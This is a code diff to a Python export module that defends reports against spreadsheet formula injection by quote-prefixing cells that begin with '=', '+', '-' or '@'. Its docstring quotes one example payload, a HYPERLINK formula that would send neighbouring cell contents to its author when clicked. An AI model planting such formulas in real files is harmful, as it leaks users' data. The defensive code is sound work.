@@ -4,7 +4,9 @@ A spreadsheet takes a cell that begins with ``=``, ``+``, ``-`` or ``@`` (or a t
 return, which some strip first) for a formula: a return's note ``=HYPERLINK("http://…"&B8)``
 would send the neighbouring cells to whoever wrote it once someone clicks. Following OWASP's
 advice, every export writes such text as text: in CSV behind a ``'`` (which spreadsheets read
-as "this is text"), in a workbook as a string cell marked quote-prefixed, never a formula.
+as "this is text"), in a workbook as a string cell marked quote-prefixed (:mod:`bot.reports.xlsx`
+writes every text as an inline string, so no cell of it can be a formula, and quote-prefixes
+what :func:`is_formula_like` finds).
 Numbers stay numbers, negative ones included: ``-5`` is not a formula.
 
 Every export (CSV and XLSX report, directory CSV) uses only the functions here.
@@ -14,7 +16,6 @@ from __future__ import annotations
 
 import re
 from collections.abc import Sequence
-from typing import Any
 
 FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
 QUOTE = "'"
@@ -48,24 +49,3 @@ def from_csv_cell(text: str) -> str:
     if text.startswith(QUOTE) and is_formula_like(text[1:]):
         return text[1:]
     return text
-
-
-def xlsx_row(sheet: Any, values: Sequence[object]) -> list[object]:
-    """Cells for a write-only sheet: numbers as numbers, any text as a string, never a formula.
-
-    Text that begins like a formula is also quote-prefixed, so that editing the cell in Excel
-    does not turn it into one.
-    """
-    return [_xlsx_cell(sheet, v) for v in values]
-
-
-def _xlsx_cell(sheet: Any, value: object) -> object:
-    if not isinstance(value, str):
-        return value
-    from openpyxl.cell import WriteOnlyCell  # only workbooks need openpyxl (~30 MiB)
-
-    cell = WriteOnlyCell(sheet, value)  # openpyxl makes "=…" a formula here; undo that
-    cell.data_type = "s"
-    if is_formula_like(value):
-        cell.quotePrefix = True
-    return cell
